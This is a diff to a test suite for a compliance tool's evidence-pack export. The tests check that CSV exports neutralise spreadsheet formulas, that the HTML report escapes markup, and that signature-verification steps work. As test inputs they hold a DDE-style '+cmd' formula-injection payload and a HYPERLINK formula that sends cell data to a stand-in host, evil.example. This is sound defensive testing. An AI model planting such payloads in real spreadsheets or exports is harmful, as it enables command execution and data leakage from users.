@@ -1,7 +1,8 @@
-import { copyFile, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
+import { copyFile, mkdtemp, rm, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import * as path from 'node:path';
 import { bearer, createTestApp, givenUser, TestApp, TestUser } from './support';
+import { downloadPack } from './support/evidence-pack';
 import { givenReviewWorld, givenUseCaseAt, ReviewWorld } from './support/review-world';
 import { runCommand } from './support/run-command';
 
@@ -23,15 +24,7 @@ describe('the evidence pack, read by an auditor', () => {
     await t.close();
   });
 
-  async function downloadPack(query: Record<string, string>, name: string) {
-    const res = await t.http().get('/api/compliance/iso42001/pack').query(query).set(bearer(officer.token)).buffer(true)
-      .parse((r, done) => { const c: Buffer[] = []; r.on('data', (b: Buffer) => c.push(b)); r.on('end', () => done(null, Buffer.concat(c))); });
-    const zip = path.join(work, `${name}.zip`);
-    const dir = path.join(work, name);
-    await writeFile(zip, res.body as Buffer);
-    const unzipped = await runCommand('python3', ['-m', 'zipfile', '-e', zip, dir]);
-    return { status: res.status, unzipped: unzipped.code === 0, dir, read: (file: string) => readFile(path.join(dir, file), 'utf8') };
-  }
+  const pack = (query: Record<string, string>, name: string) => downloadPack(t, officer.token, work, query, name);
 
   it('neutralises spreadsheet formulas in its CSV files, and escapes HTML in its report', async () => {
     const useCaseId = await givenUseCaseAt(t, world, 'minimal');
@@ -42,42 +35,42 @@ describe('the evidence pack, read by an auditor', () => {
     const soa = (await t.http().get('/api/compliance/iso42001/soa').set(bearer(officer.token)).expect(200)).body;
     await t.http().patch('/api/compliance/iso42001/soa/controls/A.2.2').set(bearer(officer.token))
       .send({ basedOnVersion: soa.version, applicable: false, justification: '+cmd|" /C calc"!A0' }).expect(200);
-    const pack = await downloadPack({}, 'hostile');
-    expect(pack.status).toBe(200);
-    const inventory = await pack.read('inventory.csv');
-    const soaCsv = await pack.read('soa.csv');
-    for (const csv of [inventory, soaCsv, await pack.read('roles.csv')]) {
+    const downloaded = await pack({}, 'hostile');
+    expect(downloaded.status).toBe(200);
+    const inventory = await downloaded.text('inventory.csv');
+    const soaCsv = await downloaded.text('soa.csv');
+    for (const csv of [inventory, soaCsv, await downloaded.text('roles.csv')]) {
       // No cell, quoted or not, begins with a character a spreadsheet reads as the start of a formula.
       expect(csv).not.toMatch(/(^|,)"?[=+\-@\t\r]/m);
     }
     expect(inventory).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""<b>click</b>"")"`);
     expect(soaCsv).toContain(`'+cmd|`);
-    const report = await pack.read('report.html');
+    const report = await downloaded.text('report.html');
     expect(report).not.toContain('<b>click</b>');
     expect(report).toContain('&lt;b&gt;click&lt;/b&gt;');
     // The JSON files keep the text as it was entered.
-    expect(JSON.parse(await pack.read(`use-cases/${useCaseId}/dossier.json`)).useCase.title).toBe(title);
+    expect(JSON.parse(await downloaded.text(`use-cases/${useCaseId}/dossier.json`)).useCase.title).toBe(title);
   });
 
   it('VERIFY.md, followed literally, verifies the manifest with openssl and the trail with the independent verifier', async () => {
-    const pack = await downloadPack({}, 'literal');
+    const downloaded = await pack({}, 'literal');
     const published = (await t.http().get('/api/audit/public-key').set(bearer(officer.token)).expect(200)).body;
-    await writeFile(path.join(pack.dir, 'gatehouse-public-key.pem'), published.publicKey);
-    const guide = await pack.read('audit-trail/VERIFY.md');
+    await writeFile(path.join(downloaded.dir, 'gatehouse-public-key.pem'), published.publicKey);
+    const guide = await downloaded.text('audit-trail/VERIFY.md');
     // The auditor fetched Gatehouse's independent verifier from its source repository, as step 3 says.
-    await copyFile(path.join(__dirname, 'support', 'verify_audit_export.py'), path.join(pack.dir, 'verify_audit_export.py'));
+    await copyFile(path.join(__dirname, 'support', 'verify_audit_export.py'), path.join(downloaded.dir, 'verify_audit_export.py'));
     const commands = guide.split('\n').filter((line) => /^ {7}(node|openssl|python3) /.test(line)).map((line) => line.trim());
     expect(commands).toHaveLength(3);
     for (const command of commands) {
-      const run = await runCommand('sh', ['-c', `cd '${pack.dir}' && ${command}`]);
+      const run = await runCommand('sh', ['-c', `cd '${downloaded.dir}' && ${command}`]);
       expect({ command, output: run.output.trim(), code: run.code }).toEqual({ command, output: expect.stringMatching(/Signature Verified Successfully|^$|^intact up to seq \d+, head hash [0-9a-f]{64}$/), code: 0 });
     }
   });
 
   // (An expanded year such as +010000 is not strict ISO 8601: it is refused before any pack is made.)
   it.each([['1900-01-01T00:00:00Z'], ['9999-12-31T23:59:59Z']])('a period ending at %s still makes a pack any unzip tool opens', async (to) => {
-    const pack = await downloadPack({ to }, `to-${to.slice(0, 6)}`);
-    expect({ status: pack.status, unzipped: pack.unzipped }).toEqual({ status: 200, unzipped: true });
-    expect(JSON.parse(await pack.read('manifest.json')).period.to).toBe(new Date(to).toISOString());
+    const downloaded = await pack({ to }, `to-${to.slice(0, 6)}`);
+    expect({ status: downloaded.status, unzipped: downloaded.unzipped }).toEqual({ status: 200, unzipped: true });
+    expect(JSON.parse(await downloaded.text('manifest.json')).period.to).toBe(new Date(to).toISOString());
   });
 });
